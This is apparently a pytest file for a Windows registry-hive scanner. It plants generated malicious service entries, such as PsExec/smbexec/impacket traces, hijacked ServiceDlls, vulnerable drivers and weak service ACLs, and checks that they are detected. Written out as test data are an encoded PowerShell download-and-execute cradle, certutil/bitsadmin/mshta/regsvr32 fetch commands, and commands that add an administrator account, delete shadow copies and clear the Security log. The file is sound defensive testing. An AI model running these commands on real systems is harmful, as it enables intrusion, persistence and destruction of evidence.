"""Planted persistence of every kind is found at medium or higher - with names, folders and
payloads generated here, not the fixtures' strings, so the rules must generalise.

Each kind is planted twice: into a hive the project's writer builds, and into a copy of the
real Windows 7 SYSTEM hive by another registry library (hivex's ``hivexsh``), among its 400
genuine services (a key's own ACL cannot be set with hivexsh, so the writable-key kind is
planted with the writer only).
"""

from __future__ import annotations

import base64
import random
import string
from collections.abc import Callable
from pathlib import Path

import pytest

import hivescan
from hivescan.catalog.tables import load_table
from hivescan.detect.rules import SEVERITY_RANK, load_rules
from hivescan.detect.scan import scan_hive
from hivescan.hive.regtypes import REG_BINARY, REG_EXPAND_SZ, REG_SZ
from hivescan.testing.encoders import encode_failure_actions
from hivescan.testing.regf import WKey, sz
from hivescan.testing.sddl import sddl_to_bytes
from tests.conftest import shared_hive, shared_hive_edited_by_hivex, system_root

RULES = load_rules()


def letters(rng: random.Random, n: int) -> str:
    return "".join(rng.choice(string.ascii_letters) for _ in range(n))


def word(rng: random.Random) -> str:
    return rng.choice(["Contoso", "Fabrikam", "Northwind", "Tailspin", "Litware", "Adatum"]) + letters(rng, 3)


def service(
    parent: WKey, name: str, *, type_: int = 0x10, start: int = 3, image: str | None = None, expand: bool = False
) -> WKey:
    key = parent.key(name)
    key.set_dword("Type", type_).set_dword("Start", start).set_dword("ErrorControl", 1)
    if image is not None:
        key.set("ImagePath", REG_EXPAND_SZ if expand else REG_SZ, sz(image))
    return key


def _user_folder(rng: random.Random) -> str:
    user = letters(rng, 6).lower()
    return rng.choice(
        [
            rf"C:\Users\{user}\AppData\Local\{word(rng)}",
            rf"C:\Users\{user}\AppData\Roaming\{word(rng)}",
            rf"C:\Users\Public\{word(rng)}",
            rf"C:\Windows\Temp\{word(rng)}",
            rf"C:\PerfLogs\{word(rng)}",
            rf"C:\Users\{user}\Downloads",
        ]
    )


def _stock_dll_services() -> list[tuple[str, str]]:
    table = load_table("windows_expected.csv")
    return [
        (r["service_name"], r["expected_regex"])
        for r in table.rows
        if r["value_name"] == "ServiceDll"
        and "System32" in r["expected_regex"]
        and "_" not in r["service_name"]
        and r["service_name"] != "Schedule"  # part of the clean base
    ]


def _drivers(category: str) -> list[str]:
    stock = {"afd.sys", "csc.sys", "termdd.sys"}
    return [
        r["file_name"]
        for r in load_table("loldrivers.csv").rows
        if r["category"] == category and r["file_name"].endswith(".sys") and r["file_name"] not in stock
    ]


Plant = Callable[[random.Random, WKey, str], None]


def psexec_renamed(rng: random.Random, s: WKey, name: str) -> None:
    service(s, name, image=r"%SystemRoot%\PSEXESVC.exe", expand=True)


def paexec(rng: random.Random, s: WKey, name: str) -> None:
    tag = f"PAExec-{rng.randint(100, 99999)}-{letters(rng, 8).upper()}"
    service(s, name, image=rf"C:\WINDOWS\{tag}.exe")


def impacket_psexec(rng: random.Random, s: WKey, name: str) -> None:
    service(s, name, image=rf"%systemroot%\{letters(rng, 8)}.exe", expand=True)


def smbexec(rng: random.Random, s: WKey, name: str) -> None:
    bat, out = letters(rng, 8), letters(rng, 8)
    cmd = (
        rf"%COMSPEC% /Q /c echo {rng.choice(['ipconfig', 'whoami /all', 'net user'])} ^> "
        rf"\\%COMPUTERNAME%\C$\__output_{out} 2^>^&1 > %SYSTEMROOT%\{bat}.bat & "
        rf"%COMSPEC% /Q /c %SYSTEMROOT%\{bat}.bat & del %SYSTEMROOT%\{bat}.bat"
    )
    service(s, name, image=cmd, expand=True)


def msf_psexec(rng: random.Random, s: WKey, name: str) -> None:
    key = service(s, name, image=rf"%SYSTEMROOT%\{letters(rng, 8)}.exe", expand=True)
    key.set("DisplayName", REG_SZ, sz(letters(rng, 16)))


def getsystem(rng: random.Random, s: WKey, name: str) -> None:
    service(
        s, name, image=rf"%COMSPEC% /c echo {rng.getrandbits(40):x} > \\.\pipe\{rng.randint(1000, 999999)}", expand=True
    )


def admin_share(rng: random.Random, s: WKey, name: str) -> None:
    host = rng.choice(["127.0.0.1", "localhost", f"WS{rng.randint(1, 99):02d}"])
    service(s, name, image=rf"\\{host}\ADMIN$\{letters(rng, 7).lower()}.exe")


def encoded_powershell(rng: random.Random, s: WKey, name: str) -> None:
    url = f"http://10.{rng.randint(0, 255)}.1.{rng.randint(1, 254)}/{letters(rng, 5)}"
    payload = f"IEX (New-Object Net.WebClient).DownloadString('{url}')"
    b64 = base64.b64encode(payload.encode("utf-16-le")).decode()
    switch = rng.choice(["-enc", "-e", "-EncodedCommand", "-ec"])
    host = rng.choice(["powershell.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "pwsh"])
    service(s, name, image=f"{host} -w hidden {switch} {b64}")


def interpreter(rng: random.Random, s: WKey, name: str) -> None:
    shell = rng.choice(["cmd.exe", "cmd", r"C:\Windows\system32\cmd.exe", "%COMSPEC%"])
    service(s, name, image=rf"{shell} /c {_user_folder(rng)}\{letters(rng, 6)}.bat", expand=True)


def lolbin(rng: random.Random, s: WKey, name: str) -> None:
    tool = rng.choice(
        [
            "certutil.exe -urlcache -f http://x/y",
            "bitsadmin /transfer j http://x/y",
            "msbuild.exe",
            r"C:\Windows\Microsoft.NET\Framework\v4.0.30319\InstallUtil.exe /U",
            "regsvr32 /s /i:http://x/y scrobj.dll",
            "mshta http://x/y.hta",
        ]
    )
    service(s, name, image=f"{tool} {letters(rng, 5)}")


def user_writable(rng: random.Random, s: WKey, name: str) -> None:
    path = rf"{_user_folder(rng)}\{letters(rng, 7)}.exe"
    service(s, name, start=2, image=rng.choice([path, f'"{path}" -service']))


def unquoted(rng: random.Random, s: WKey, name: str) -> None:
    service(
        s, name, start=2, image=rf"C:\Program Files\{word(rng)} {word(rng)}\{letters(rng, 6)}.exe -{letters(rng, 3)}"
    )


def driver_staged(rng: random.Random, s: WKey, name: str) -> None:
    drv = rng.choice(_drivers("vulnerable"))
    prefix = rng.choice(["\\??\\", ""])
    service(s, name, type_=1, image=rf"{prefix}{_user_folder(rng)}\{drv}")


def driver_malicious(rng: random.Random, s: WKey, name: str) -> None:
    service(s, name, type_=1, start=1, image=rf"System32\drivers\{rng.choice(_drivers('malicious'))}", expand=True)


def driver_not_sys(rng: random.Random, s: WKey, name: str) -> None:
    service(
        s,
        name,
        type_=rng.choice([1, 2]),
        image=rf"\??\C:\Windows\System32\{letters(rng, 6)}.{rng.choice(['dat', 'bin', 'exe'])}",
    )


def servicedll_hijack(rng: random.Random, s: WKey, name: str) -> None:
    stock, _ = rng.choice(_stock_dll_services())
    key = service(s, stock, type_=0x20, image=r"%SystemRoot%\System32\svchost.exe -k netsvcs -p", expand=True)
    folder = rng.choice([rf"C:\ProgramData\{word(rng)}", _user_folder(rng), rf"C:\{word(rng)}"])
    key.key("Parameters").set("ServiceDll", REG_EXPAND_SZ, sz(rf"{folder}\{stock.lower()}.dll"))


def failure_command(rng: random.Random, s: WKey, name: str) -> None:
    key = service(s, name, image=rf'"C:\Program Files\{word(rng)}\svc.exe"')
    command = rng.choice(
        [
            rf"{_user_folder(rng)}\{letters(rng, 5)}.exe",
            f"powershell -nop -c {letters(rng, 8)}",
            rf"rundll32.exe C:\ProgramData\{letters(rng, 5)}.dll,Start",
        ]
    )
    key.set("FailureCommand", REG_SZ, sz(command))
    key.set(
        "FailureActions", REG_BINARY, encode_failure_actions(0, [{"action": "run_command", "delay_ms": 0}], command=1)
    )


def pending_delete(rng: random.Random, s: WKey, name: str) -> None:
    service(s, name, image=rf'"C:\Program Files\{word(rng)}\agent.exe"').set_dword("DeleteFlag", 1)


def masquerade(rng: random.Random, s: WKey, name: str) -> None:
    folder = rng.choice([r"C:\Windows", r"C:\Windows\SysWOW", _user_folder(rng), r"C:\ProgramData\Microsoft"])
    service(s, name, type_=0x20, start=2, image=rf"{folder}\svchost.exe -k {letters(rng, 6)}")


def hidden_tail(rng: random.Random, s: WKey, name: str) -> None:
    key = service(s, name, image=r"%SystemRoot%\System32\vds.exe", expand=True)
    key.set("Description", REG_SZ, sz(word(rng)) + sz(f"{letters(rng, 10)}"))


def wrapper(rng: random.Random, s: WKey, name: str) -> None:
    key = service(s, name, start=2, image=rf"C:\Tools\{rng.choice(['nssm.exe', 'srvany.exe'])}")
    key.key("Parameters").set("Application", REG_SZ, sz(rf"C:\Tools\{letters(rng, 6)}.exe"))


def _some(rng: random.Random, items: list[str], at_least: int = 1) -> list[str]:
    return rng.sample(items, rng.randint(at_least, len(items)))


def hidden_by_deny_ace(rng: random.Random, s: WKey, name: str) -> None:
    # deny ACEs first, as sc sdset writes them: the service vanishes from sc query / services.msc
    rights = "".join(_some(rng, ["DC", "LC", "WP", "DT", "SD", "RP"], 2))
    denied = "".join(f"(D;;{rights};;;{who})" for who in _some(rng, ["IU", "SU", "BA", "WD", "AU"], 2))
    sddl = f"D:{denied}(A;;CCLCSWRPWPDTLOCRRC;;;SY)(A;;CCDCLCSWRPWPDTLOCRSDRCWDWO;;;BA)(A;;CCLCSWLOCRRC;;;IU)"
    key = service(s, name, start=2, image=rf'"C:\Program Files\{word(rng)}\{letters(rng, 6)}.exe"')
    key.key("Security").set("Security", REG_BINARY, sddl_to_bytes(sddl))


def weak_service_permissions(rng: random.Random, s: WKey, name: str) -> None:
    # a low-privileged principal may change the configuration (or the DACL, or take ownership)
    right = rng.choice(["DC", "WD", "WO", "GA", "CCDCLCSWRPWPDTLOCRRC"])
    who = rng.choice(["WD", "AU", "BU", "IU"])
    sddl = f"D:(A;;CCLCSWRPWPDTLOCRRC;;;SY)(A;;CCDCLCSWRPWPDTLOCRSDRCWDWO;;;BA)(A;;{right};;;{who})"
    key = service(s, name, start=2, image=rf'"C:\Program Files\{word(rng)}\{letters(rng, 6)}.exe"')
    key.key("Security").set("Security", REG_BINARY, sddl_to_bytes(sddl))


def writable_key(rng: random.Random, s: WKey, name: str) -> None:
    # the services-registry-permissions weakness: users may rewrite ImagePath themselves
    right = rng.choice(["KA", "KW", "0x2", "WD"])
    who = rng.choice(["BU", "AU", "WD", "IU"])
    key = service(s, name, start=2, image=rf'"C:\Program Files\{word(rng)}\{letters(rng, 6)}.exe"')
    key.security = sddl_to_bytes(f"O:BAG:SYD:(A;CI;{right};;;{who})(A;CI;KA;;;SY)(A;CI;KA;;;BA)(A;CI;KR;;;BU)")


def driver_by_path(rng: random.Random, s: WKey, name: str) -> None:
    # sc create X binPath= C:\somewhere\X.sys type= kernel, outside the drivers folder
    folder = rng.choice([r"C:\Windows", r"C:\Windows\System32", rf"C:\{word(rng)}", r"C:\Windows\inf"])
    prefix = rng.choice(["\\??\\", ""])
    service(s, name, type_=1, start=rng.choice([1, 2, 3]), image=rf"{prefix}{folder}\{letters(rng, 7)}.sys")


def vulnerable_driver(rng: random.Random, s: WKey, name: str) -> None:
    drv = rng.choice(_drivers("vulnerable"))
    service(s, name, type_=1, start=rng.choice([1, 2, 3]), image=rf"System32\drivers\{drv}", expand=True)


def sliver(rng: random.Random, s: WKey, name: str) -> None:
    exe = "".join(rng.choice(string.ascii_letters + string.digits) for _ in range(10))
    service(s, name, start=3, image=rf"C:\Windows\Temp\{exe}.exe")


def admin_command(rng: random.Random, s: WKey, name: str) -> None:
    user = letters(rng, 7).lower()
    command = rng.choice(
        [
            f"net user {user} {letters(rng, 10)}1! /add",
            f"C:\\Windows\\System32\\net1.exe localgroup administrators {user} /add",
            "vssadmin.exe Delete Shadows /All /Quiet",
            rf"reg add HKLM\Software\Microsoft\Windows\CurrentVersion\Run /v {user} /d C:\ProgramData\{user}.exe /f",
            rf"schtasks /create /tn {word(rng)} /tr C:\ProgramData\{user}.exe /sc onstart /ru SYSTEM",
            "wevtutil cl Security",
            rf"%COMSPEC% /c sc config {word(rng)} binpath= C:\ProgramData\{user}.exe",
        ]
    )
    service(s, name, image=command, expand=True)


PLANTS: dict[str, Plant] = {
    f.__name__: f
    for f in (
        psexec_renamed,
        paexec,
        impacket_psexec,
        smbexec,
        msf_psexec,
        getsystem,
        admin_share,
        encoded_powershell,
        interpreter,
        lolbin,
        user_writable,
        unquoted,
        driver_staged,
        driver_malicious,
        driver_not_sys,
        servicedll_hijack,
        failure_command,
        pending_delete,
        masquerade,
        hidden_tail,
        wrapper,
        hidden_by_deny_ace,
        weak_service_permissions,
        writable_key,
        driver_by_path,
        vulnerable_driver,
        sliver,
        admin_command,
    )
}
WRITER_ONLY = {"writable_key"}  # hivexsh cannot give a key its own ACL


def _base(root: WKey, number: int) -> WKey:
    s = root.key(f"ControlSet{number:03d}\\Services")
    service(
        s, "Schedule", type_=0x20, start=2, image=r"%systemroot%\system32\svchost.exe -k netsvcs -p", expand=True
    ).key("Parameters").set("ServiceDll", REG_EXPAND_SZ, sz(r"%systemroot%\system32\schedsvc.dll"))
    service(s, "disk", type_=1, start=0, image=r"System32\drivers\disk.sys", expand=True)
    service(s, "VMTools", start=2, image=r'"C:\Program Files\VMware\VMware Tools\vmtoolsd.exe"')
    return s


@pytest.mark.parametrize("seed", [1, 2, 3, 4])
@pytest.mark.parametrize("kind", sorted(PLANTS))
def test_planted_kind_is_found_at_medium_or_higher(kind: str, seed: int, write_hive) -> None:  # type: ignore[no-untyped-def]
    rng = random.Random(f"{kind}-{seed}")
    root = system_root(1, (1,))
    services = _base(root, 1)
    name = letters(rng, rng.randint(4, 12))
    before = {k.name for k in services.subkeys}
    PLANTS[kind](rng, services, name)
    (planted,) = [k.name for k in services.subkeys if k.name not in before]
    with hivescan.open_hive(write_hive(root)) as hive:
        result = scan_hive(hive, rules=RULES)
    found = [f for f in result.findings if f.service.upper() == planted.upper()]
    best = max((SEVERITY_RANK[f.severity] for f in found), default=-1)
    assert best >= SEVERITY_RANK["medium"], (
        f"{kind} ({planted}) found only as {[(f.rule_id, f.severity) for f in found]}"
    )
    noise = [f for f in result.findings if f.service in ("Schedule", "disk", "VMTools") and f.severity != "low"]
    assert not noise, noise


def test_a_service_only_in_one_control_set_is_found(write_hive: Callable[..., Path]) -> None:
    root = system_root(1, (1, 2))
    current, lkg = _base(root, 1), _base(root, 2)
    rng = random.Random(7)
    added, removed = letters(rng, 9), letters(rng, 9)
    service(current, added, start=2, image=rf'"C:\Program Files\{word(rng)}\a.exe"')
    service(lkg, removed, type_=1, start=1, image=r"System32\drivers\x.sys", expand=True)
    with hivescan.open_hive(write_hive(root)) as hive:
        result = scan_hive(hive, rules=RULES)
    by_service = {f.service: f for f in result.findings if f.rule_id == "service-only-in-some-control-sets"}
    assert set(by_service) == {added, removed}
    assert by_service[added].control_set == 1 and by_service[removed].control_set == 2
    assert by_service[removed].evidence_map["absent_from_control_sets"] == 1
    assert result.identical_skipped == 3  # Schedule, disk, VMTools are evaluated once


def _hivex_lines(key: WKey, exists: Callable[[str], bool], path: str) -> list[str]:
    """hivexsh commands that create (or enter) ``key`` under the current node and give it
    exactly the planted values and subkeys; values are written as raw ``hex:TYPE:bytes``."""
    here = f"{path}\\{key.name}"
    lines = [f"cd {key.name}"] if exists(here) else [f"add {key.name}", f"cd {key.name}"]
    if key.values:
        lines.append(f"setval {len(key.values)}")
        for value in key.values:
            lines += [value.name, f"hex:{value.type}:{','.join(f'{b:02x}' for b in value.data)}"]
    for sub in key.subkeys:
        lines += _hivex_lines(sub, exists, here)
    lines.append("cd ..")
    return lines


def test_planted_kinds_in_a_real_hive_are_found(tmp_path: Path) -> None:
    """Every kind, planted by hivexsh into a copy of the real Windows 7 SYSTEM hive."""
    with hivescan.open_hive(shared_hive("win7-SYSTEM")) as hive:
        sets = [chosen.name for chosen in hive.resolve("all").chosen]
        existing = {r.name.upper() for r in hive.services()}

        def exists(path: str) -> bool:
            return hive.reader.key(path) is not None

        planted: dict[str, str] = {}
        script: list[str] = []
        # into every control set, as an installed service is: a service in one set only is
        # a finding of its own (service-only-in-some-control-sets) that would hide the others
        for control_set in sets:
            services_path = f"{control_set}\\Services"
            script.append(f"cd \\{services_path}")
            rng = random.Random("real-hive")  # the same services in each set
            for kind in sorted(set(PLANTS) - WRITER_ONLY):
                staging = WKey("Services")
                name = f"{word(rng)}{letters(rng, rng.randint(1, 6))}"
                PLANTS[kind](rng, staging, name)
                for key in staging.subkeys:
                    planted[key.name] = kind
                    script += _hivex_lines(key, exists, services_path)
    # a service created and deleted again (PsExec, impacket and Metasploit clean up after
    # themselves): its cells stay in free space, and scan reads deleted keys by default
    gone = f"{word(rng)}{letters(rng, 5)}"
    script += [f"cd \\{sets[0]}\\Services", f"add {gone}", f"cd {gone}", "setval 4", "Type", "dword:0x10"]
    script += ["Start", "dword:3", "ErrorControl", "dword:0", "ImagePath", rf"expandstring:%SystemRoot%\{gone}.exe"]
    script += ["del"]
    script.append("commit")
    hive_path = shared_hive_edited_by_hivex("win7-SYSTEM", tmp_path, "\n".join(script) + "\n")

    with hivescan.open_hive(hive_path) as hive:
        names = {r.name.upper() for r in hive.services()}
        result = scan_hive(hive, rules=RULES)
    assert names == existing | {n.upper() for n in planted}  # the genuine services are all still there
    planted[gone] = "deleted"
    missed = []
    for name, kind in sorted(planted.items()):
        found = [f for f in result.findings if f.service.upper() == name.upper()]
        if max((SEVERITY_RANK[f.severity] for f in found), default=-1) < SEVERITY_RANK["medium"]:
            missed.append(f"{kind} ({name}): {[(f.rule_id, f.severity) for f in found]}")
    assert not missed, missed
